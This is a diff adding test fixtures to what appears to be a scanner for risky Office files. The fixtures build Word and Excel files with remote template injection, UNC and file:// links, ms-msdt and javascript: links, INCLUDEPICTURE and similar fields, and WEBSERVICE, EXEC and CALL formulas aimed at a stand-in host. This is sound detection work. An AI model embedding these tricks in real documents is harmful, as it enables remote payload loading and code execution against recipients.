@@ -169,6 +169,90 @@ OFFICES = (
     _book(
         "data connection", "has_remote", lambda: office("xlsx", more={"xl/connections.xml": "<connections/>"})
     ),
+    _word(
+        "remote template behind a space",
+        "has_remote",
+        lambda: related("attachedTemplate", " http://jahat.test/"),
+    ),
+    _word(
+        "remote template in percent signs",
+        "has_remote",
+        lambda: related("attachedTemplate", "%5C%5Cjahat.test%5Ca.dotm"),
+    ),
+    _word(
+        "part of the package elsewhere", "has_remote", lambda: related("styles", "https://jahat.test/", "")
+    ),
+    _word("share as link", "has_remote", lambda: related("hyperlink", "file://///jahat.test/a")),
+    _word("share as link by address", "has_remote", lambda: related("hyperlink", "file://jahat.test/a")),
+    _word(
+        "script as link in a field", "has_active_content", lambda: field('HYPERLINK "javascript:alert(1)"')
+    ),
+    _word(
+        "diagnosis as link in a field", "has_active_content", lambda: field(r'HYPERLINK \\o "a" ms-msdt:/id')
+    ),
+    _word("remote picture in a field", "has_remote", lambda: field('INCLUDEPICTURE "https://jahat.test/a"')),
+    _word("remote text in a field", "has_remote", lambda: field("INCLUDE", r'TEXT "\\\\jahat.test\\a.docx"')),
+    _word(
+        "remote text in a field by address", "has_remote", lambda: field("INCLUDETEXT file://jahat.test/a")
+    ),
+    _word(
+        "remote sheet in a field", "has_remote", lambda: field(r"LINK Excel.Sheet.12 \\jahat.test\a.xlsx A1")
+    ),
+    _word(
+        "remote picture in a field that was deleted",
+        "has_remote",
+        lambda: office(
+            "docx", inside='<w:p><w:delInstrText>INCLUDEPICTURE "https://jahat.test/a"</w:delInstrText></w:p>'
+        ),
+    ),
+    _word(
+        "remote picture whose address another field makes",
+        "has_remote",
+        lambda: office(
+            "docx",
+            inside='<w:p><w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDEPICTURE </w:instrText>'
+            '<w:fldChar w:fldCharType="begin"/><w:instrText>QUOTE 104 116</w:instrText></w:p>',
+        ),
+    ),
+    _word(
+        "query for letters",
+        "has_remote",
+        lambda: office("docx", inside='<w:connectString w:val="Provider=SQLOLEDB;Data Source=jahat.test"/>'),
+    ),
+    _word("add-in", "has_active_content", lambda: related("webextension", "webextension1.xml", "")),
+    _word(
+        "add-in beside the page", "has_active_content", lambda: related("webextensiontaskpanes", "a.xml", "")
+    ),
+    _book("data connection elsewhere", "has_remote", lambda: related("connections", "a.xml", "", "xlsx")),
+    _book("query of a table elsewhere", "has_remote", lambda: related("queryTable", "a.xml", "", "xlsx")),
+    _book(
+        "formula that asks the web",
+        "has_remote",
+        lambda: sheet('<f>_xlfn.WEBSERVICE("https://jahat.test/")</f>'),
+    ),
+    _book(
+        "formula that shows a picture",
+        "has_remote",
+        lambda: sheet('<f>_xlfn.IMAGE("https://jahat.test/")</f>'),
+    ),
+    _book("formula that starts a server", "has_active_content", lambda: sheet('<f>RTD("a",,"b")</f>')),
+    _book("formula that runs a program", "has_active_content", lambda: sheet('<f>1+EXEC ("calc")</f>')),
+    _book(
+        "formula that calls a library", "has_active_content", lambda: sheet('<f>CALL("urlmon","a","J")</f>')
+    ),
+    _word(
+        "script as link of a drawing",
+        "has_active_content",
+        lambda: office("docx", more={"word/a.vml": '<v:shape xmlns:v="urn:v" href="javascript:alert(1)"/>'}),
+    ),
+    _word(
+        "script of a picture",
+        "has_active_content",
+        lambda: office(
+            "docx",
+            more={"word/media/a.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>a()</script></svg>'},
+        ),
+    ),
     _word("entity bomb", "unreadable", lambda: with_main("docx", ENTITY_BOMB)),
     _word(
         "entity bomb aside", "unreadable", lambda: office("docx", more={"customXml/item1.xml": ENTITY_BOMB})
